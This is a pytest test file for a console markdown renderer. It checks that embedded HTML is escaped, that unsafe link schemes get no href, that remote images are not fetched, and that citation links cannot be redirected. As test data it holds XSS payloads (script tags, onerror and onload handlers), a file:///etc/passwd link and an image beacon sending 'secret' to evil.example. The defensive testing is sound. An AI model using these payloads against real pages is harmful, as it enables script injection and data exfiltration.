"""Markdown from models and documents: whatever it holds, it is text on the page and nothing more."""

import re

import pytest

from interaction.console.markdown import render_markdown


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onmouseover=alert(1)>b</b>",
        "<svg/onload=alert(1)>",
        "`<iframe src=https://evil.example>`",
        "```\n</code><script>1</script>\n```",
        "| <form action=https://evil.example> |\n|---|\n| <input name=p> |",
        "# <style>*{display:none}</style>",
    ],
)
def test_html_is_shown_and_not_used(text: str) -> None:
    html = render_markdown(text)
    assert "&lt;" in html
    assert re.findall(r"<(?!/?(?:p|pre|code|table|thead|tbody|tr|th|td|h3)>)", html) == []


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "/v1/me",
        "//e.example",
        "http:///x",
    ],
)
def test_links_lead_to_the_web_only(address: str) -> None:
    for text in (f"[here]({address})", f"<{address}>", f"[here](<{address}>)"):
        assert "href" not in render_markdown(text), text


def test_a_link_tells_nothing_and_gets_nothing() -> None:
    html = render_markdown('[the site](https://example.org/a?b=1&c=2 "x")')
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_nothing_is_fetched_from_elsewhere() -> None:
    html = render_markdown("![steal](https://evil.example/?q=secret) ![x][1]\n\n[1]: https://evil.example/pixel.png")
    assert "<img" not in html
    assert "src=" not in html


def test_citation_marks_are_text_unless_we_say_where_they_lead() -> None:
    assert render_markdown("So it is [1][2].") == "<p>So it is [1][2].</p>\n"
    html = render_markdown("So it is [1][2].", {1: "/runs/x#s1"})
    assert html == '<p>So it is <a class="citation" href="/runs/x#s1">[1]</a>[2].</p>\n'


def test_a_text_cannot_say_where_its_citation_marks_lead() -> None:
    html = render_markdown("As it says [1].\n\n[1]: https://evil.example", {1: "/sources/1"})
    assert set(re.findall(r'href="([^"]*)"', html)) == {"/sources/1"}
    assert 'As it says <a class="citation" href="/sources/1">[1]</a>.' in html


def test_headings_stand_below_the_pages_own() -> None:
    assert render_markdown("# One\n\n##### Five") == "<h3>One</h3>\n<h6>Five</h6>\n"


def test_endless_nesting_ends() -> None:
    assert len(render_markdown(">" * 5000 + "x")) < 100_000
